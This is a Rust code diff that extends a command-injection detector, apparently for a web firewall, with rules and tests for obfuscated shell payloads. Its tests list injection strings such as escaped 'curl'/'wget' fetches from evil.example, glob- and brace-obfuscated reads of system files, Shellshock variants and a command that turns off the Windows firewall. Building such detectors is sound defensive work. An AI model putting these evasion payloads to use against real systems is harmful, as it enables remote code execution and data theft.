@@ -41,6 +41,10 @@ const STRONG: &[&str] = &[
     "lscpu", "lsblk", "blkid", "fdisk", "mkfs", "modprobe", "insmod", "rmmod", "lsmod",
 ];
 
+/// Reconnaissance commands that, as the whole value, are a command and nothing else.
+/// (`uname` alone is also a user-name field's name.)
+const RECON: &[&str] = &["whoami", "ifconfig", "ipconfig", "netstat", "systeminfo", "tasklist"];
+
 /// Commands that are also English words: need shell-looking arguments.
 const WEAK: &[&str] = &[
     "cat", "echo", "sleep", "type", "dir", "set", "more", "less", "find", "kill", "sort", "head",
@@ -77,27 +81,103 @@ const INVOCATIONS: &[&str] = &[
     "wscript.shell", "shell.application", "process.start(",
 ];
 
-/// Per-value scan.
+/// Per-value scan: the text as given and, when it holds C-style escapes (`\n`, `\r`,
+/// `\t`, `\033[2A`), the text those escapes stand for.
 pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
     let full = v.text;
     let t = full.get(..super::textscan::floor_char(full, MAX_BYTES)).unwrap_or(full);
-    let s = t.as_bytes();
-    if s.is_empty() {
+    if t.is_empty() {
         return;
     }
     let since = out.len();
+    scan_text(v, t, out, since);
+    if let Some(u) = c_unescape(t) {
+        let mut more = Vec::new();
+        scan_text(v, &u, &mut more, 0);
+        for h in more {
+            // Keep the stronger of two hits of one rule.
+            match out.iter_mut().skip(since).find(|o| o.rule == h.rule) {
+                Some(o) if o.score < h.score => *o = h,
+                Some(_) => {}
+                None => out.push(h),
+            }
+        }
+    }
+}
+
+/// The text with C-style escapes undone, if it has any: `\n` `\r` `\t` as blanks and
+/// line breaks, `\0`, `\e`, `\033`, `\x1b` as ESC, `` \` `` as a backtick; ANSI control
+/// sequences (`ESC [ 2 A`) are dropped. Payload lists write separators this way.
+fn c_unescape(t: &str) -> Option<String> {
+    let b = t.as_bytes();
+    let any = memchr::memchr_iter(b'\\', b).any(|i| matches!(b.get(i + 1), Some(b'n' | b'r' | b't' | b'0' | b'e' | b'`')) || b.get(i + 1..i + 4) == Some(b"x1b"));
+    if !any {
+        return None;
+    }
+    let mut out: Vec<u8> = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while let Some(&c) = b.get(i) {
+        if c != b'\\' {
+            out.push(c);
+            i += 1;
+            continue;
+        }
+        let (rep, used): (Option<u8>, usize) = match b.get(i + 1) {
+            Some(b'n') => (Some(b'\n'), 2),
+            Some(b'r') => (Some(b'\r'), 2),
+            Some(b't') => (Some(b'\t'), 2),
+            Some(b'`') => (Some(b'`'), 2),
+            Some(b'e') => (Some(0x1b), 2),
+            Some(b'0') if b.get(i + 2..i + 4) == Some(b"33") => (Some(0x1b), 4),
+            Some(b'0') => (None, 2),
+            Some(b'x') if b.get(i + 2..i + 4).is_some_and(|h| h.eq_ignore_ascii_case(b"1b")) => (Some(0x1b), 4),
+            _ => (Some(b'\\'), 1),
+        };
+        i += used;
+        match rep {
+            // ESC `[` parameters, one final byte: a terminal control sequence.
+            Some(0x1b) => {
+                if b.get(i) == Some(&b'[') {
+                    i += 1;
+                    while b.get(i).is_some_and(|c| c.is_ascii_digit() || *c == b';') {
+                        i += 1;
+                    }
+                    if b.get(i).is_some_and(|c| c.is_ascii_uppercase()) {
+                        i += 1;
+                    }
+                }
+            }
+            Some(r) => out.push(r),
+            None => {}
+        }
+    }
+    String::from_utf8(out).ok()
+}
+
+fn scan_text(v: &Value<'_>, t: &str, out: &mut Vec<Hit>, since: usize) {
+    let s = t.as_bytes();
     let prose = is_prose(v);
     let (sc_score, sc_pl) = if prose { (3, 2) } else { (5, 1) };
 
-    // Shellshock: a function definition at the start of a value (headers, usually).
+    // Shellshock: a function definition at the start of a value (headers, usually); the
+    // blanks may be any filler bash skips or a layer rewrote (`().{.:;.};`).
     let trimmed = t.trim_start_matches([' ', '\t', '"', '\'']);
-    if trimmed.starts_with("() {") || trimmed.starts_with("(){") || trimmed.starts_with("() {") {
-        push_once(out, since, hit("rce.shellshock", CLASS, 5, 1, snippet(trimmed, 0, 80)));
+    if let Some(rest) = trimmed.strip_prefix("()") {
+        let filler = rest.bytes().take_while(|c| matches!(c, b' ' | b'\t' | b'.' | b'+' | b'\n')).count();
+        if filler <= 4 && rest.as_bytes().get(filler) == Some(&b'{') && rest.get(filler..).is_some_and(|r| r.get(..16).unwrap_or(r).contains(';')) {
+            push_once(out, since, hit("rce.shellshock", CLASS, 5, 1, snippet(trimmed, 0, 80)));
+        }
+    }
+
+    // A value that is nothing but a reconnaissance command (`whoami`, `ipconfig`).
+    let bare = t.trim_matches(|c: char| c.is_ascii_whitespace() || matches!(c, '\'' | '"' | '`'));
+    if v.part != Part::ArgName && bare.len() <= 16 && RECON.iter().any(|r| bare.eq_ignore_ascii_case(r) || bare.len() == r.len() + 4 && bare.get(..r.len()).is_some_and(|h| h.eq_ignore_ascii_case(r)) && bare.get(r.len()..).is_some_and(|x| x.eq_ignore_ascii_case(".exe"))) {
+        push_once(out, since, hit("rce.bare-command", CLASS, 5, 1, snippet(t, 0, 40)));
     }
 
     // Quick exit: no shell metacharacter and no invocation fragment.
-    let has_meta = s.iter().any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'(' | b'{' | b'%' | b'\'' | b'"' | b'<'));
-    if !has_meta && !t.contains('/') && !t.contains('-') && !t.contains('.') {
+    let has_meta = s.iter().any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'(' | b'{' | b'%' | b'\'' | b'"' | b'<' | b'\\'));
+    if !has_meta && !t.contains('/') && !t.contains('-') && !t.contains('.') && !t.contains(':') && !t.contains(' ') && !t.contains('+') {
         return;
     }
 
@@ -169,6 +249,30 @@ pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
         i = next.max(i + 1);
     }
 
+    // `/???/c?t`, `/e*?/p*d` as an argument anywhere: a path spelled with shell globs so
+    // that no file name appears.
+    if !prose && memchr::memchr(b'?', s).is_some() {
+        let mut from = 0;
+        let mut tried = 0;
+        while let Some(at) = s.get(from..).and_then(|r| memchr::memchr(b'/', r)).map(|o| o + from) {
+            from = at + 1;
+            let prev = if at == 0 { None } else { s.get(at - 1).copied() };
+            if !matches!(prev, None | Some(b' ' | b'\t' | b',' | b'\'' | b'"' | b'=' | b'(' | b'{' | b'+' | b';' | b'|' | b'&' | b'`' | b'\n')) {
+                continue;
+            }
+            tried += 1;
+            if tried > 16 {
+                break;
+            }
+            let (word, _) = read_word(s, at);
+            let segs: Vec<&str> = word.split('/').filter(|x| !x.is_empty()).collect();
+            if glob_path(&word) && word.contains('?') && segs.iter().all(|x| x.contains(['?', '*'])) {
+                push_once(out, since, hit("rce.glob-path", CLASS, 5, 1, snippet(t, at, at + 60)));
+                break;
+            }
+        }
+    }
+
     // A value that is itself a command line (`wget http://x/s.sh`, `cat /etc/passwd`).
     // (Only values with an argument after the first word, or opening with a quote.)
     let multi_word = s.iter().any(|&b| matches!(b, b' ' | b'\t' | b'+' | b'$'));
@@ -177,7 +281,7 @@ pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
         let quoted = matches!(s.first(), Some(b'\'' | b'"'));
         let start = if quoted { 1 } else { 0 };
         if let Some(cmd) = command_at(s, start) {
-            if cmd.args_shellish && cmd.strength != Strength::Weak {
+            if cmd.args_shellish && (cmd.strength != Strength::Weak || cmd.args_strong) && !host_only(s, start, cmd.end) {
                 push_once(out, since, hit("rce.leading-command", CLASS, 5, 1, snippet(t, 0, 80)));
             } else if cmd.args_shellish {
                 push_once(out, since, hit("rce.leading-command", CLASS, 3, 1, snippet(t, 0, 80)));
@@ -269,6 +373,9 @@ struct Cmd {
     then_separator: bool,
     /// A `)` follows (end of a `$(..)` substitution).
     then_close: bool,
+    /// The first argument only makes sense to a shell: a drive root (`C:\\`), an admin
+    /// tool's verb (`net user`), a command name after `which`, a bare number after `sleep`.
+    args_strong: bool,
     end: usize,
 }
 
@@ -319,6 +426,11 @@ fn read_word_once(s: &[u8], mut i: usize) -> (String, usize) {
         }
         match c {
             b'\\' => {
+                // `c\\a\\t`: a run of backslashes (one per unescaping layer) escapes the
+                // character after it.
+                while s.get(i + 1) == Some(&b'\\') && s.get(i + 2).is_some() {
+                    i += 1;
+                }
                 if let Some(&n) = s.get(i + 1) {
                     if n != b'\n' && !n.is_ascii_whitespace() {
                         w.push(n.to_ascii_lowercase() as char);
@@ -406,11 +518,14 @@ fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
     } else {
         return None;
     };
+    // `{cat,/etc/passwd}`: in a brace expansion the comma separates the arguments.
+    let brace = s.get(i..end).is_some_and(|r| r.iter().take_while(|c| !c.is_ascii_alphanumeric() && **c != b'\\').any(|&c| c == b'{'));
     // What follows the word.
     let mut j = end;
     loop {
         match s.get(j) {
             Some(b' ' | b'\t' | b'+') => j += 1,
+            Some(b',') if brace && j == end => j += 1,
             Some(b'$') if ifs_len(s, j) > 0 => j += ifs_len(s, j),
             _ => break,
         }
@@ -433,19 +548,31 @@ fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
         Some(b'\'' | b'"') => true,
         Some(_) if raw_token(rest).windows(2).any(|w| w == b"$(" || w == b"${") || raw_token(rest).contains(&b'`') => true,
         Some(_) => {
-            let (arg, _) = read_word(s, j);
+            let (arg, arg_end) = read_word(s, j);
             let drive = arg.as_bytes().get(1) == Some(&b':') && arg.bytes().next().is_some_and(|c| c.is_ascii_alphabetic());
-            arg.contains('/') || arg.contains('.') && arg.len() > 2 || arg.contains('\\') || drive || subcommand(name, &arg)
+            let rest_blank = s.get(arg_end..).is_none_or(|r| r.iter().all(|c| c.is_ascii_whitespace()));
+            arg.contains('/') || arg.contains('.') && arg.len() > 2 || arg.contains('\\') || drive || subcommand(name, &arg, rest_blank)
         }
         None => false,
     } && end > i;
+    let args_strong = args_shellish && {
+        let (arg, arg_end) = read_word(s, j);
+        let a = arg.as_bytes();
+        let drive = a.len() >= 2 && a.first().is_some_and(|c| c.is_ascii_alphabetic()) && a.get(1) == Some(&b':') && matches!(a.get(2), None | Some(b'\\' | b'/'))
+            || rest.get(..3).is_some_and(|r| r.first().is_some_and(|c| c.is_ascii_alphabetic()) && r.get(1) == Some(&b':') && r.get(2) == Some(&b'\\'));
+        let after_arg = s.get(arg_end..).unwrap_or_default();
+        let only_number = !a.is_empty() && a.iter().all(|c| c.is_ascii_digit()) && after_arg.iter().all(|c| c.is_ascii_whitespace());
+        drive
+            || subcommand(name, &arg, after_arg.iter().all(|c| c.is_ascii_whitespace())) && !(name == "net" && matches!(arg.as_str(), "use" | "start" | "stop" | "group" | "config"))
+            || name == "sleep" && only_number
+    };
     // A word directly glued to letters (`setup`, `category`) or a `name=value` pair is
     // not this command.
     let glued = s.get(end).is_some_and(|c| c.is_ascii_alphanumeric());
     if glued || followed_by_eq {
         return None;
     }
-    Some(Cmd { strength, args_shellish, ends_value, then_separator, then_close, end })
+    Some(Cmd { strength, args_shellish, ends_value, then_separator, then_close, args_strong, end })
 }
 
 /// A `FOR ... %v IN (...) DO` loop or an `IF` statement in cmd.exe syntax. Returns the
@@ -537,14 +664,32 @@ fn is_weak(name: &str) -> bool {
 }
 
 /// Windows admin tools whose first argument is a verb (`net user`, `sc query`).
-fn subcommand(cmd: &str, arg: &str) -> bool {
+fn subcommand(cmd: &str, arg: &str, rest_blank: bool) -> bool {
     match cmd {
         "net" | "net1" => matches!(arg, "user" | "users" | "localgroup" | "view" | "use" | "share" | "session" | "accounts" | "group" | "config" | "start" | "stop"),
         "sc" => matches!(arg, "query" | "create" | "start" | "stop" | "config" | "delete" | "qc"),
         "reg" => matches!(arg, "query" | "add" | "delete" | "export" | "save"),
         "cmd" => matches!(arg, "/c" | "/k"),
+        // `which nc`, alone: asking the shell where a tool is.
+        "which" | "whereis" => is_strong(arg) && rest_blank,
+        "netsh" => matches!(arg, "firewall" | "advfirewall" | "interface" | "int" | "wlan" | "winsock" | "http" | "dump" | "routing" | "winhttp" | "ipsec"),
         _ => false,
     }
+}
+
+/// The rest of a command line after the command word is one host name or address
+/// (`ping 10.0.0.1`, `nslookup example.com`): what a network-diagnostics form expects.
+fn host_only(s: &[u8], start: usize, end: usize) -> bool {
+    let (word, _) = read_word(s, start);
+    let name = word.rsplit(['/', '\\']).next().unwrap_or(&word);
+    let name = name.strip_suffix(".exe").unwrap_or(name);
+    if !matches!(name, "ping" | "ping6" | "nslookup" | "traceroute" | "tracert" | "host" | "dig" | "whois" | "telnet" | "ncat" | "nc") {
+        return false;
+    }
+    let rest = s.get(end..).unwrap_or_default();
+    let rest: Vec<u8> = rest.iter().map(|&c| if c == b'+' { b' ' } else { c }).collect();
+    let words: Vec<&[u8]> = rest.split(|c| c.is_ascii_whitespace()).filter(|w| !w.is_empty()).collect();
+    words.len() == 1 && words.first().is_some_and(|w| w.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b':' | b'-')) && !w.starts_with(b"-"))
 }
 
 /// `/???/c?t`, `/bin/n?`: every segment is letters and glob characters, some glob.
@@ -629,6 +774,39 @@ mod tests {
     }
 
     #[test]
+    fn escaped_separators_and_bare_command_lines() {
+        for a in [
+            // C-style escapes written out, as payload lists carry them.
+            "\\nwhoami\\n",
+            ";uname -a\\n",
+            "x\\r\\nhostname;",
+            "\\n\\033[2Acurl http://evil.example/x.sh",
+            "q\\n\\e[1Kwget http://evil.example/x",
+            // A value that is only a reconnaissance command, or a command line that only a
+            // shell understands.
+            "whoami",
+            "IPCONFIG",
+            "systeminfo.exe",
+            "uname -r",
+            "dir C:\\Windows\\Temp",
+            "type d:\\secrets.txt",
+            "net localgroup administrators",
+            "netsh advfirewall set allprofiles state off",
+            "which nc",
+            "sleep 7",
+            "ping -n 40 10.1.1.1",
+            // Brace expansion, stacked backslashes, dotted Shellshock, glob-only paths.
+            ";{c\\at,/etc/hostname}",
+            "a;{\\c''\\a\\t,/e''*?/h?st??me}",
+            "x; c\\\\a\\\\t /e\\\\tc/hosts",
+            "().{.:;.};.echo hi",
+            "q=1 /???/?at /e??/h?st?",
+        ] {
+            assert!(score(Part::QueryValue, a) >= 5, "{a}: {:?}", rules(Part::QueryValue, a));
+        }
+    }
+
+    #[test]
     fn benign() {
         for b in [
             "Tom & Jerry",
@@ -658,9 +836,27 @@ mod tests {
             "If exist, great",
             "LC & NC - Boys038-XL.jpg",
             "&uddg=http://www.example.com/blog/tags/zsh",
+            // What a diagnostics form expects, and words that are only English.
+            "ping 10.0.0.1",
+            "nslookup example.com",
+            "which one is better",
+            "which python version should I use",
+            "sleep 8 hours a night",
+            "net use of funds",
+            "dir",
+            "id",
+            "C:\\new\\test\\readme.txt",
+            "/api/*/items",
+            "uname",
+            "whoami is a command",
+            "what? /a?b/c",
         ] {
             assert!(score(Part::QueryValue, b) < 5, "{b}: {:?}", rules(Part::QueryValue, b));
         }
+        // A parameter called `whoami` is not a command.
+        let mut out = Vec::new();
+        scan(&Value { part: Part::ArgName, name: "whoami", text: "whoami" }, &mut out);
+        assert!(out.is_empty(), "{out:?}");
         // Prose in a body with a command word after a semicolon stays below PL1.
         let text = "Please check the log files carefully; cat /var/log/app.log shows the error we discussed yesterday";
         let mut out = Vec::new();
